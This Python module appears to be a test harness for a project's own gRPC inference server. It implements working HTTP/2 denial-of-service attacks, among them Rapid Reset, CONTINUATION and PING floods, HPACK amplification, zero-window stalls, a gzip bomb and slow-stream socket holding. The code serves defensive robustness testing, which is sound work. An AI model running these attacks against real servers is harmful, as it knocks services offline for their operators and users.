"""HTTP/2 attackers of ``trtforge serve``'s gRPC port, shared by the hostile-client suite and the
liveness benchmark.

Each attack is a function ``attack(target, stop, counters)``: it attacks ``target`` until `stop` is
set and counts what it did and saw in `counters` as it goes (frames sent, connections the server
closed, gRPC statuses). It decides nothing: the callers assert or record. Well-formed HTTP/2 comes
from the ``h2`` package (a client whose flow control and HPACK state are real); frames that ``h2``
refuses to send (a CONTINUATION that never ends, HEADERS on a half-closed stream, a crafted HPACK
block) are built with ``hyperframe`` and ``hpack``, the libraries ``h2`` itself is made of, and
written to the raw socket.
"""

from __future__ import annotations

import select
import socket
import struct
import threading
from collections import Counter
from collections.abc import Callable, Iterator

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings
import hpack
import numpy as np
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
)

from trtforge_dev.hostile import Target, gzip_bomb

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
INFER_PATH = "/inference.GRPCInferenceService/ModelInfer"
GZIP_BOMB_MIB = 1024  # what grpc_gzip_bomb's message inflates to


def infer_message(model: str, input_name: str, x: np.ndarray) -> bytes:
    """A serialised v2 ``ModelInferRequest`` of one FP32 input, its tensor as raw contents."""
    from tritonclient.grpc import service_pb2

    req = service_pb2.ModelInferRequest(model_name=model)
    inp = req.inputs.add()
    inp.name, inp.datatype = input_name, "FP32"
    inp.shape.extend(x.shape)
    req.raw_input_contents.append(np.ascontiguousarray(x, np.float32).tobytes())
    return bytes(req.SerializeToString())


def grpc_message(payload: bytes, compressed: bool = False) -> bytes:
    """A gRPC length-prefixed message: the compressed flag, the 4-byte length, the bytes."""
    return struct.pack(">BI", int(compressed), len(payload)) + payload


def request_headers(target: Target, *extra: tuple[str, str]) -> list[tuple[str, str]]:
    return [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", INFER_PATH),
        (":authority", f"{target.host}:{target.grpc_port}"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
        *extra,
    ]


class FrameReader:
    """Reads what the server sends on a raw connection, frame by frame (hyperframe's parser)."""

    def __init__(self, sock: socket.socket) -> None:
        self.sock = sock
        self.buf = bytearray()
        self.eof = False
        self.seen: Counter[str] = Counter()

    def poll(self, timeout: float = 0.0) -> Iterator[Frame]:
        """The frames that arrive within `timeout` (none once the server has closed)."""
        while not self.eof:
            r, _, _ = select.select([self.sock], [], [], timeout)
            if not r:
                break
            timeout = 0.0
            try:
                data = self.sock.recv(1 << 16)
            except OSError:
                data = b""
            if not data:
                self.eof = True
                break
            self.buf += data
        while len(self.buf) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(bytes(self.buf[:9])))
            if len(self.buf) < 9 + length:
                break
            frame.parse_body(memoryview(bytes(self.buf[9 : 9 + length])))
            del self.buf[: 9 + length]
            self.seen[type(frame).__name__] += 1
            yield frame


class RawConnection:
    """A TCP connection that has sent the client preface and an empty SETTINGS (and acknowledged the
    server's); everything after is the caller's frames."""

    def __init__(self, target: Target, timeout: float = 5.0) -> None:
        self.sock = target.connect(target.grpc_port, timeout)
        self.reader = FrameReader(self.sock)
        self.encoder = hpack.Encoder()
        self.sock.sendall(
            PREFACE + SettingsFrame(0).serialize() + SettingsFrame(0, flags=["ACK"]).serialize()
        )

    def send(self, *frames: Frame | bytes) -> bool:
        """Write the frames; False once the server has closed the connection."""
        try:
            self.sock.sendall(b"".join(f if isinstance(f, bytes) else f.serialize() for f in frames))
            return True
        except OSError:
            return False

    def drain(self, timeout: float = 0.0) -> list[Frame]:
        return list(self.reader.poll(timeout))

    @property
    def closed(self) -> bool:
        return self.reader.eof

    def close(self) -> None:
        self.sock.close()


def _count_answers(frames: list[Frame], counters: Counter[str]) -> None:
    for f in frames:
        if isinstance(f, GoAwayFrame):
            counters["goaway"] += 1
        elif isinstance(f, RstStreamFrame):
            counters["rst_stream"] += 1
        elif isinstance(f, HeadersFrame):
            counters["headers_received"] += 1


def _while_open(
    target: Target,
    stop: threading.Event,
    counters: Counter[str],
    body: Callable[[RawConnection, dict[str, int]], bool],
) -> None:
    """Run `body` on a raw connection (with a state of its own, fresh for each connection), opening
    a new one whenever the server closes it or `body` says it is done with it, until `stop`."""
    while not stop.is_set():
        try:
            conn = RawConnection(target)
        except OSError:
            counters["connect_failed"] += 1
            stop.wait(0.05)
            continue
        counters["connections"] += 1
        state: dict[str, int] = {}
        try:
            while not stop.is_set():
                if not body(conn, state) or conn.closed:
                    break
                _count_answers(conn.drain(), counters)
            if stop.is_set() and not conn.closed:  # what it answered while the attacker still wrote
                _count_answers(conn.drain(timeout=2.0), counters)
            if conn.closed:
                counters["closed_by_server"] += 1
        except OSError:
            counters["closed_by_server"] += 1
        finally:
            conn.close()


class H2Client:
    """A well-formed HTTP/2 client connection (the ``h2`` package) on a blocking socket. Each
    finished call's grpc-status is counted in `statuses` and, as it arrives, as ``grpc_status_N`` in
    `counters` (an attack's, so that a caller waiting on a status sees it while the connection lasts)."""

    def __init__(
        self,
        target: Target,
        settings: dict[int, int] | None = None,
        timeout: float = 5.0,
        counters: Counter[str] | None = None,
    ) -> None:
        self.sock = target.connect(target.grpc_port, timeout)
        self.conn = h2.connection.H2Connection(
            h2.config.H2Configuration(client_side=True, header_encoding=None)
        )
        self.conn.initiate_connection()
        if settings:
            self.conn.update_settings(settings)
        self.closed = False
        self.statuses: Counter[str] = Counter()
        self.counters = counters
        self.flush()

    def flush(self) -> None:
        data = self.conn.data_to_send()
        if data:
            self.sock.sendall(data)

    def pump(self, timeout: float = 0.0, ack_data: bool = True) -> None:
        """Read what has arrived (within `timeout`) into the connection's state: grpc-status of each
        finished call into `statuses`; received DATA credited back unless `ack_data` is off."""
        while not self.closed:
            r, _, _ = select.select([self.sock], [], [], timeout)
            if not r:
                return
            timeout = 0.0
            try:
                data = self.sock.recv(1 << 16)
            except OSError:
                data = b""
            if not data:
                self.closed = True
                return
            try:
                events = self.conn.receive_data(data)
            except h2.exceptions.ProtocolError:
                self.closed = True
                return
            for e in events:
                if isinstance(e, h2.events.DataReceived) and ack_data:
                    self.conn.acknowledge_received_data(e.flow_controlled_length, e.stream_id)
                elif isinstance(e, h2.events.TrailersReceived | h2.events.ResponseReceived):
                    for k, v in e.headers or []:
                        if k == b"grpc-status":
                            self.statuses[v.decode()] += 1
                            if self.counters is not None:
                                self.counters[f"grpc_status_{v.decode()}"] += 1
                elif isinstance(e, h2.events.ConnectionTerminated):
                    self.closed = True
            if not self.closed:
                self.flush()

    def send_body(self, stream_id: int, data: bytes, stop: threading.Event, end_stream: bool = True) -> bool:
        """Send `data` on the stream as flow control allows; False if the stream or connection ended
        (or `stop` was set) first."""
        view = memoryview(data)
        while view and not stop.is_set() and not self.closed:
            try:
                window = self.conn.local_flow_control_window(stream_id)
            except h2.exceptions.StreamClosedError:
                return False
            n = min(window, self.conn.max_outbound_frame_size, len(view))
            if n <= 0:
                self.pump(0.05)
                continue
            self.conn.send_data(stream_id, view[:n].tobytes(), end_stream=end_stream and n == len(view))
            view = view[n:]
            self.flush()
        return not view

    def close(self) -> None:
        self.sock.close()


def _h2_loop(
    target: Target,
    stop: threading.Event,
    counters: Counter[str],
    body: Callable[[H2Client], bool],
    settings: dict[int, int] | None = None,
) -> None:
    """Run `body` on an ``h2`` connection, reconnecting when the server closes it, until `stop`."""
    while not stop.is_set():
        try:
            client = H2Client(target, settings, counters=counters)
        except OSError:
            counters["connect_failed"] += 1
            stop.wait(0.05)
            continue
        counters["connections"] += 1
        try:
            while not stop.is_set() and not client.closed:
                if not body(client):
                    break
                client.pump()
            counters["closed_by_server"] += client.closed
        except (OSError, h2.exceptions.ProtocolError):
            counters["closed_by_server"] += 1
        finally:
            client.close()


def rapid_reset(target: Target, stop: threading.Event, counters: Counter[str]) -> None:
    """CVE-2023-44487: open a stream with a whole, valid ModelInfer call and reset it at once, 100 to
    a write, on one connection after another."""
    message = grpc_message(infer_message(target.model, target.input_name, target.sample))
    headers = request_headers(target)

    def burst(c: H2Client) -> bool:
        for _ in range(100):
            sid = c.conn.get_next_available_stream_id()
            c.conn.send_headers(sid, headers)
            c.conn.send_data(sid, message, end_stream=True)
            c.conn.reset_stream(sid)
            counters["streams_reset"] += 1
        c.flush()
        return True

    _h2_loop(target, stop, counters, burst)


def continuation_flood(target: Target, stop: threading.Event, counters: Counter[str]) -> None:
    """CVE-2024-27316 and kin: a HEADERS frame without END_HEADERS, then CONTINUATION frames of
    never-indexed junk headers (16 KiB each) that never end the block."""
    junk = [hpack.NeverIndexedHeaderTuple(f"x-junk-{i}", "j" * 200) for i in range(70)]

    def flood(c: RawConnection, state: dict[str, int]) -> bool:
        if not state:
            state["open"] = 1
            c.send(HeadersFrame(1, data=c.encoder.encode(request_headers(target))))
        block = c.encoder.encode(junk)
        counters["continuation_frames"] += 8
        return c.send(*[ContinuationFrame(1, data=block) for _ in range(8)])

    _while_open(target, stop, counters, flood)


def _index(encoder: hpack.Encoder, header: tuple[str, str]) -> bytes:
    """The HPACK indexed representation (RFC 7541 §6.1) of `header`, which `encoder` has in its table."""
    found = encoder.header_table.search(header[0].encode(), header[1].encode())
    assert found and found[2], header
    first, *rest = hpack.hpack.encode_integer(found[0], 7)
    return bytes([first | 0x80, *rest])


def hpack_amplification(target: Target, stop: threading.Event, counters: Counter[str]) -> None:
    """HPACK amplification: a 4 KB header enters the dynamic table once, then every request refers
    to it 15,000 times (one byte each): 16 KB on the wire decode to about 60 MB of headers."""
    big = ("x-amplify", "a" * 4000)

    def attack(c: RawConnection, state: dict[str, int]) -> bool:
        sid = state.setdefault("sid", 1)
        state["sid"] += 2
        if sid == 1:
            block = c.encoder.encode([*request_headers(target), big])
        else:
            plain = [hpack.NeverIndexedHeaderTuple(k, v) for k, v in request_headers(target)]
            block = c.encoder.encode(plain) + _index(c.encoder, big) * 15_000  # the table keeps `big`
            counters["decoded_header_bytes"] += 15_000 * len(big[1])
        counters["streams"] += 1
        return c.send(HeadersFrame(sid, data=block, flags=["END_HEADERS", "END_STREAM"]))

    _while_open(target, stop, counters, attack)


def settings_flood(target: Target, stop: threading.Event, counters: Counter[str]) -> None:
    """SETTINGS frames of 2,700 entries each (unknown identifiers, which a peer must process and
    ignore), written without reading a single acknowledgement."""
    frame = SettingsFrame(0, settings={0x100 + i: i for i in range(2700)}).serialize()

    def flood(c: RawConnection, state: dict[str, int]) -> bool:
        counters["settings_frames"] += 10
        return c.send(*([frame] * 10))

    _while_open(target, stop, counters, flood)


def ping_flood(target: Target, stop: threading.Event, counters: Counter[str]) -> None:
    """CVE-2019-9512: PING frames, 1,000 to a write, without reading a single acknowledgement."""
    burst = b"".join(PingFrame(0, opaque_data=struct.pack(">Q", i)).serialize() for i in range(1000))

    def flood(c: RawConnection, state: dict[str, int]) -> bool:
        counters["pings"] += 1000
        return c.send(burst)

    _while_open(target, stop, counters, flood)


def zero_window(target: Target, stop: threading.Event, counters: Counter[str], connections: int = 4) -> None:
    """CVE-2019-9517: a client whose receive window is 0 (SETTINGS_INITIAL_WINDOW_SIZE) opens valid
    calls as fast as the server allows, up to its stream limit, and never reads an answer, on
    `connections` connections (each replaced when the server closes it)."""
    message = grpc_message(infer_message(target.model, target.input_name, target.sample))
    headers = request_headers(target)
    clients: list[H2Client] = []
    try:
        while not stop.is_set():
            for c in clients:
                if c.closed:
                    c.close()
            clients = [c for c in clients if not c.closed]
            if len(clients) < connections:
                try:
                    clients.append(H2Client(target, {h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0}))
                    counters["connections"] += 1
                except OSError:
                    counters["connect_failed"] += 1
            for c in clients:
                try:
                    c.pump(ack_data=False)
                    # Never past the server's stream limit: h2 would refuse the stream itself
                    # (TooManyStreamsError), and a connection dropped for that would make this a
                    # flood of new connections rather than a few held ones.
                    room = c.conn.remote_settings.max_concurrent_streams - c.conn.open_outbound_streams
                    for _ in range(min(20, room)):
                        sid = c.conn.get_next_available_stream_id()
                        c.conn.send_headers(sid, headers)
                        c.conn.send_data(sid, message, end_stream=True)
                        counters["calls_opened"] += 1
                    c.flush()
                except (OSError, h2.exceptions.ProtocolError):
                    c.closed = True
                    counters["closed_by_server"] += 1
            stop.wait(0.02)
    finally:
        for c in clients:
            counters["held_streams"] += c.conn.open_outbound_streams if not c.closed else 0
            c.close()


def repeated_end_stream(target: Target, stop: threading.Event, counters: Counter[str]) -> None:
    """A whole, valid call (HEADERS, DATA with END_STREAM), then 100 more HEADERS blocks with
    END_STREAM on the same, now half-closed stream (RFC 9113 §5.1: STREAM_CLOSED; none may start a
    call), then a wait for the call's end before the next. `calls`: how many calls were sent whole,
    so the most the server may run; `ended`: the streams the server ended (trailers or RST_STREAM)."""
    message = grpc_message(infer_message(target.model, target.input_name, target.sample))

    def attack(c: RawConnection, state: dict[str, int]) -> bool:
        sid = state.setdefault("sid", 1)
        state["sid"] += 2
        first = HeadersFrame(sid, data=c.encoder.encode(request_headers(target)), flags=["END_HEADERS"])
        data = DataFrame(sid, data=message, flags=["END_STREAM"])
        if not c.send(first, data):
            return False
        counters["calls"] += 1
        plain = [hpack.NeverIndexedHeaderTuple(k, v) for k, v in request_headers(target)]
        extra = [HeadersFrame(sid, data=c.encoder.encode(plain), flags=["END_HEADERS", "END_STREAM"])] * 100
        counters["extra_header_blocks"] += len(extra)
        if not c.send(*extra):
            return False
        for _ in range(100):  # up to 5 s for the call's end
            for f in c.drain(0.05):
                if f.stream_id == sid and (isinstance(f, RstStreamFrame) or "END_STREAM" in f.flags):
                    counters["ended"] += 1
                    return True
                if isinstance(f, GoAwayFrame):
                    counters["goaway"] += 1
            if c.closed or stop.is_set():
                return False
        return True

    _while_open(target, stop, counters, attack)


def grpc_gzip_bomb(target: Target, stop: threading.Event, counters: Counter[str]) -> None:
    """A ModelInfer call whose one message is a gzip stream of `GZIP_BOMB_MIB` of zeros (about 1 MB
    on the wire) under ``grpc-encoding: gzip``, one call after another, reading the answers."""
    message = grpc_message(gzip_bomb(GZIP_BOMB_MIB), compressed=True)
    headers = request_headers(target, ("grpc-encoding", "gzip"), ("grpc-accept-encoding", "identity,gzip"))

    def call(c: H2Client) -> bool:
        sid = c.conn.get_next_available_stream_id()
        c.conn.send_headers(sid, headers)
        c.flush()
        if c.send_body(sid, message, stop):
            counters["bombs_sent"] += 1
        done = sum(c.statuses.values())
        while not stop.is_set() and not c.closed and sum(c.statuses.values()) == done:
            c.pump(0.05)  # one call at a time: its status before the next bomb
        return True

    _h2_loop(target, stop, counters, call)


def length_prefix_4gb(target: Target, stop: threading.Event, counters: Counter[str]) -> None:
    """Calls whose gRPC length prefix claims 4 GiB - 1, followed by a few bytes at a time."""
    headers = request_headers(target)

    def call(c: H2Client) -> bool:
        sid = c.conn.get_next_available_stream_id()
        c.conn.send_headers(sid, headers)
        c.conn.send_data(sid, struct.pack(">BI", 0, 0xFFFFFFFF) + b"\0" * 64)
        c.flush()
        counters["calls"] += 1
        for _ in range(10):  # a drip on the stream, then the next one
            c.pump(0.02)
            if c.closed or c.conn.local_flow_control_window(sid) < 64:
                break
            try:
                c.conn.send_data(sid, b"\0" * 64)
                c.flush()
            except h2.exceptions.StreamClosedError:
                break
        return True

    _h2_loop(target, stop, counters, call)


def no_preface(
    target: Target, stop: threading.Event, counters: Counter[str], connections: int = 1000
) -> None:
    """`connections` TCP connections to the gRPC port that never send the HTTP/2 preface (half send
    nothing, half its first 16 bytes), held until `stop`."""
    socks: list[socket.socket] = []
    try:
        for i in range(connections):
            if stop.is_set():
                break
            try:
                s = target.connect(target.grpc_port, 5)
            except OSError:
                counters["connect_failed"] += 1
                continue
            if i % 2:
                s.sendall(PREFACE[:16])
            socks.append(s)
        counters["held"] = len(socks)
        stop.wait()
        for s in socks:  # what the server did with them meanwhile
            s.setblocking(False)
            try:
                counters["closed_by_server"] += s.recv(1024) == b""
            except BlockingIOError:
                pass
            except OSError:
                counters["closed_by_server"] += 1
    finally:
        for s in socks:
            s.close()


SHORT_MESSAGE = struct.pack(">BI", 0, 110) + b"\0" * 10  # a length prefix claiming 110 bytes, and 10


def _stalled_calls(
    target: Target,
    stop: threading.Event,
    counters: Counter[str],
    end_stream: bool,
    connections: int = 12,
    calls: int = 100,
) -> None:
    """`connections` connections, each keeping `calls` ModelInfer calls open whose one DATA frame is
    :data:`SHORT_MESSAGE`: with `end_stream` that frame ends the stream (the message can never be
    whole), without it the stream stays open and silent. A call the server ends (trailers:
    ``grpc_status_N``; RST_STREAM: ``reset_by_server``) is replaced by a new one; a connection it
    closes, by a new connection. ``held_streams``: calls still open at the end."""
    headers = request_headers(target)
    flags = ["END_STREAM"] if end_stream else []
    conns: list[tuple[RawConnection, hpack.Decoder, set[int], list[int]]] = []
    try:
        while not stop.is_set():
            for c in [c for c in conns if c[0].closed]:
                counters["closed_by_server"] += 1
                c[0].close()
                conns.remove(c)
            while len(conns) < connections and not stop.is_set():
                try:
                    conns.append((RawConnection(target), hpack.Decoder(), set(), [1]))
                    counters["connections"] += 1
                except OSError:
                    counters["connect_failed"] += 1
                    break
            for conn, decoder, open_, next_id in conns:
                frames: list[Frame] = []
                while len(open_) < calls:
                    sid = next_id[0]
                    next_id[0] += 2
                    frames.append(HeadersFrame(sid, data=conn.encoder.encode(headers), flags=["END_HEADERS"]))
                    frames.append(DataFrame(sid, data=SHORT_MESSAGE, flags=flags))
                    open_.add(sid)
                    counters["calls_opened"] += 1
                if frames and not conn.send(*frames):
                    conn.reader.eof = True
                    continue
                for f in conn.drain():
                    if isinstance(f, RstStreamFrame):
                        open_.discard(f.stream_id)
                        counters["reset_by_server"] += 1
                    elif isinstance(f, HeadersFrame):
                        for k, v in decoder.decode(f.data, raw=True):
                            if k == b"grpc-status":
                                counters[f"grpc_status_{v.decode()}"] += 1
                        if "END_STREAM" in f.flags:
                            open_.discard(f.stream_id)
                    elif isinstance(f, GoAwayFrame):
                        counters["goaway"] += 1
            stop.wait(0.05)
    finally:
        counters["held_streams"] = sum(len(c[2]) for c in conns if not c[0].closed)
        for c in conns:
            c[0].close()


def short_messages(target: Target, stop: threading.Event, counters: Counter[str]) -> None:
    """12 connections x 100 calls, each a 10-byte message whose length prefix claims 110 bytes, then
    END_STREAM: the calls can never finish, and the sockets are held."""
    _stalled_calls(target, stop, counters, end_stream=True)


def slow_streams(target: Target, stop: threading.Event, counters: Counter[str]) -> None:
    """12 connections x 100 calls, each 10 bytes of a 110-byte message and then nothing: the calls
    make no progress, and the sockets are held."""
    _stalled_calls(target, stop, counters, end_stream=False)


def zero_window_12(target: Target, stop: threading.Event, counters: Counter[str]) -> None:
    """:func:`zero_window` on 12 connections at a time."""
    zero_window(target, stop, counters, connections=12)


def headers_on_closed_streams(target: Target, stop: threading.Event, counters: Counter[str]) -> None:
    """Calls opened and reset by the client, each followed by a HEADERS block on the stream it has
    just closed (RFC 9113 §5.1: a connection error, STREAM_CLOSED), 100 to a write."""

    def attack(c: RawConnection, state: dict[str, int]) -> bool:
        plain = [hpack.NeverIndexedHeaderTuple(k, v) for k, v in request_headers(target)]
        frames: list[Frame] = []
        for _ in range(100):
            sid = state.setdefault("sid", 1)
            state["sid"] += 2
            frames += [
                HeadersFrame(sid, data=c.encoder.encode(plain), flags=["END_HEADERS"]),
                RstStreamFrame(sid, error_code=8),  # CANCEL
                HeadersFrame(sid, data=c.encoder.encode(plain), flags=["END_HEADERS", "END_STREAM"]),
            ]
        counters["closed_stream_headers"] += 100
        return c.send(*frames)

    _while_open(target, stop, counters, attack)


def odd_stream_ids(target: Target, stop: threading.Event, counters: Counter[str]) -> None:
    """HEADERS on stream ids a client may not use (RFC 9113 §5.1.1, a connection error,
    PROTOCOL_ERROR): even ones (the server's), and ones below the last the client opened, 100 to a
    write."""

    def attack(c: RawConnection, state: dict[str, int]) -> bool:
        plain = [hpack.NeverIndexedHeaderTuple(k, v) for k, v in request_headers(target)]
        top = state.setdefault("top", 1001)
        state["top"] += 200
        frames = [HeadersFrame(top, data=c.encoder.encode(plain), flags=["END_HEADERS"])]
        for i in range(1, 100):
            sid = top - 2 * i if i % 2 else top + 2 * i - 1  # lower odd ids, and even ids
            block = c.encoder.encode(plain)
            frames.append(HeadersFrame(sid, data=block, flags=["END_HEADERS", "END_STREAM"]))
        counters["bad_stream_ids"] += 99
        return c.send(*frames)

    _while_open(target, stop, counters, attack)


Attack = Callable[[Target, threading.Event, Counter[str]], None]

H2_ATTACKS: dict[str, Attack] = {
    "rapid_reset": rapid_reset,
    "continuation_flood": continuation_flood,
    "hpack_amplification": hpack_amplification,
    "settings_flood": settings_flood,
    "ping_flood": ping_flood,
    "zero_window": zero_window,
    "repeated_end_stream": repeated_end_stream,
    "grpc_gzip_bomb": grpc_gzip_bomb,
    "length_prefix_4gb": length_prefix_4gb,
    "no_preface": no_preface,
    "short_messages": short_messages,
    "slow_streams": slow_streams,
    "zero_window_12": zero_window_12,
    "headers_on_closed_streams": headers_on_closed_streams,
    "odd_stream_ids": odd_stream_ids,
}
